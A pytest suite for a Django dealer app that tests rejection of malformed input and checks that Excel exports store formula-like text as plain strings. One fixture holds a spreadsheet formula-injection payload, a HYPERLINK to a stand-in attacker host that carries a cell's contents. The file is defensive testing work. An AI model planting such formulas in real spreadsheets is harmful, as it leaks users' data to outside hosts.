"""Hostile and careless input to dealers and change requests: a clear 400 naming the field,
nothing saved, and nothing executable in the workbooks that leave the system."""

import io
import json

import openpyxl
import pytest
from django.utils import translation
from rest_framework.test import APIClient

from dealers import services
from dealers.excel import DealerImportSpec, dealer_workbook
from dealers.models import Dealer, DealerChangeRequest, DealerContact
from ssa_ops.excel_import import excel_import_run
from ssa_ops.jobs import job_start
from ssa_ops.models import AuditEvent, BackgroundJob
from ssa_ops.roles import Role
from tests.dealers.factories import DealerContactFactory, RegionFactory
from tests.dealers.test_excel import DEALER_HEADER, dealer_row

pytestmark = pytest.mark.django_db


@pytest.fixture
def dealer_user(make_user):
    return make_user(Role.DEALER)


def _api(user):
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    client.force_authenticate(user)
    return client


def _file(client, body, *, raw=False):
    return client.post(
        "/api/v1/dealers/change-requests/",
        body if raw else json.dumps(body),
        content_type="application/json",
    )


def _nothing_saved():
    return DealerChangeRequest.objects.count() == 0


def test_a_lone_surrogate_is_refused_and_every_page_keeps_working(client, dealer_user):
    raw = '{"dealer": DEALER, "values": {"name_en": "\\ud800x"}}'.replace(
        "DEALER", str(dealer_user.dealer_id)
    )
    response = _file(_api(dealer_user), raw, raw=True)
    assert response.status_code == 400 and response.json()["code"]
    assert _nothing_saved()
    client.force_login(dealer_user)
    assert client.get("/dealers/changes/").status_code == 200
    assert client.get(f"/dealers/{dealer_user.dealer_id}/export/").status_code == 200


@pytest.mark.parametrize(
    ("values", "contact_changes", "field"),
    [
        ({"name_zh": 123}, [], "name_zh"),
        ({"name_zh": ["x"]}, [], "name_zh"),
        ({"name_zh": {"a": 1}}, [], "name_zh"),
        ({"name_zh": True}, [], "name_zh"),
        ({"status": 7}, [], "status"),
        ({"group": ["G1"]}, [], "group"),
        (["x"], [], "values"),
        ({"name_en": "bad\x00name"}, [], "name_en"),
        ({"address": "x" * 301}, [], "address"),
        ({"password": "x"}, [], "values"),
        (
            {},
            [{"action": "add", "values": {"role": "finance", "name": 5, "phone": "13800138000"}}],
            "contacts.0.name",
        ),
        (
            {},
            [
                {
                    "action": "add",
                    "values": {"role": "finance", "name": "x" * 100_000, "phone": "13800138000"},
                }
            ],
            "contacts.0.name",
        ),
        (
            {},
            [{"action": "add", "values": {"role": "finance", "name": "张", "phone": "1" * 511}}],
            "contacts.0.phone",
        ),
        ({}, [{"action": "add", "values": "x"}], "contacts.0.values"),
        ({}, ["x"], "contact_changes"),
        ({}, [{"action": "update", "contact_id": "1", "values": {}}], "contacts.0"),
    ],
)
def test_wrong_types_and_oversized_values_are_a_400_naming_the_field(
    dealer_user, values, contact_changes, field
):
    body = {"dealer": dealer_user.dealer_id, "values": values, "contact_changes": contact_changes}
    response = _file(_api(dealer_user), body)
    assert response.status_code == 400, response.content
    assert response.json()["code"] == "invalid"
    assert field in response.json()["fields"], response.json()
    assert _nothing_saved()


def test_a_note_of_4_mb_is_refused(dealer_user):
    body = {
        "dealer": dealer_user.dealer_id,
        "values": {"address": "新地址"},
        "note": "长" * 1_400_000,
    }
    response = _file(_api(dealer_user), body)
    assert response.status_code in (400, 413)
    assert response.json()["code"]
    assert _nothing_saved()


def test_the_form_refuses_a_nul_byte_with_a_message(client, dealer_user):
    dealer = dealer_user.dealer
    client.force_login(dealer_user)
    form = {
        "name_zh": dealer.name_zh,
        "name_en": "Bad\x00Name",
        "legal_entity": dealer.legal_entity,
        "credit_code": dealer.credit_code,
        "address": dealer.address,
        "status": dealer.status,
        "contacts-TOTAL_FORMS": "0",
        "contacts-INITIAL_FORMS": "0",
        "contacts-MIN_NUM_FORMS": "0",
        "contacts-MAX_NUM_FORMS": "1000",
    }
    response = client.post(f"/dealers/{dealer.pk}/changes/new/", form)
    assert response.status_code == 200
    assert _nothing_saved()


def test_the_import_applies_the_same_limits(make_user):
    RegionFactory(code="R1")
    contacts_header = ["Dealer code", "Role", "Name", "Phone", "Email", "Primary"]
    book = openpyxl.Workbook()
    dealers = book.active
    dealers.title = "Dealers"
    dealers.append(DEALER_HEADER)
    dealers.append(dealer_row("D" * 60, region="R1"))
    dealers.append(dealer_row("OK1", region="R1"))
    contacts = book.create_sheet("Contacts")
    contacts.append(contacts_header)
    contacts.append(["OK1", "finance", "钱会计", "1" * 511, "", "no"])
    contacts.append(["OK1", "finance", "孙会计", "13800138000", "a" * 250 + "@x.example", "no"])
    output = io.BytesIO()
    book.save(output)
    before = AuditEvent.objects.count()
    with translation.override("en"):
        result = excel_import_run(
            spec=DealerImportSpec(), source=output.getvalue(), actor=make_user(Role.OPS_LEAD)
        )
        problems = {(e.sheet, e.column, e.message_display) for e in result.errors}
    assert not result.ok
    assert ("Dealers", "Dealer code", "At most 20 characters (this has 60).") in problems
    assert ("Contacts", "Phone", "At most 30 characters (this has 511).") in problems
    assert ("Contacts", "Email", "At most 254 characters (this has 260).") in problems
    assert Dealer.objects.count() == 0 and DealerContact.objects.count() == 0
    assert AuditEvent.objects.count() == before


FORMULAS = {
    "name_zh": '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
    "address": "=1+1",
    "legal_entity": "{=1+1}",
}


def _text_cells(sheet):
    return {
        cell.value: cell.data_type
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "={+-@"
    }


def test_exports_write_formulas_as_text_and_read_back_the_same(
    make_user, dealer_user, django_capture_on_commit_callbacks
):
    # given a dealer whose names, address, contact and a decision reason look like formulas
    dealer = dealer_user.dealer
    Dealer.objects.filter(pk=dealer.pk).update(**FORMULAS)
    dealer.refresh_from_db()
    DealerContactFactory(dealer=dealer, name="=2+3", is_primary=True)
    filed = services.change_request_create(
        actor=dealer_user, dealer=dealer, values={"name_en": "=SUM(A1:A9)"}
    )
    services.change_request_submit(actor=dealer_user, pk=filed.pk)
    services.change_request_reject(actor=make_user(Role.OPS), pk=filed.pk, reason="=1+2")
    lead = make_user(Role.OPS_LEAD)
    # when the whole list and the one-dealer workbook are exported
    with django_capture_on_commit_callbacks(execute=True):
        job = job_start(kind="dealer_export", actor=lead)
    job = BackgroundJob.objects.get(pk=job.pk)
    exported = job.result_file.read()
    one = openpyxl.load_workbook(io.BytesIO(dealer_workbook(dealer)))
    listed = openpyxl.load_workbook(io.BytesIO(exported))
    # then every such cell is a text cell holding exactly what was typed
    cells = {}
    for book in (one, listed):
        for sheet in book.worksheets:
            cells.update(_text_cells(sheet))
    for text in [*FORMULAS.values(), "=2+3", "=1+2"]:
        assert cells.get(text) == "s", (text, cells)
    # and the app's own import reads back what it wrote
    with translation.override("en"):
        result = excel_import_run(spec=DealerImportSpec(), source=exported, actor=lead)
    assert result.ok, result.errors
    dealer.refresh_from_db()
    assert (dealer.name_zh, dealer.address, dealer.legal_entity) == tuple(FORMULAS.values())


def test_a_nul_byte_in_a_list_filter_never_reaches_the_database(client, make_user):
    lead = make_user(Role.OPS_LEAD)
    api = _api(lead)
    for url in (
        "/api/v1/dealers/?q=%00",
        "/api/v1/dealers/?status=%00",
        "/api/v1/dealers/change-requests/?q=%00",
        "/api/v1/dealers/change-requests/?status=a%00b",
    ):
        response = api.get(url)
        assert (response.status_code, response.json()["code"]) == (400, "invalid_parameter"), url
    client.force_login(lead)
    for url in ("/outbox/?q=%00", "/outbox/?template=%00", "/dealers/contacts/?q=%00"):
        assert client.get(url).status_code == 200, url
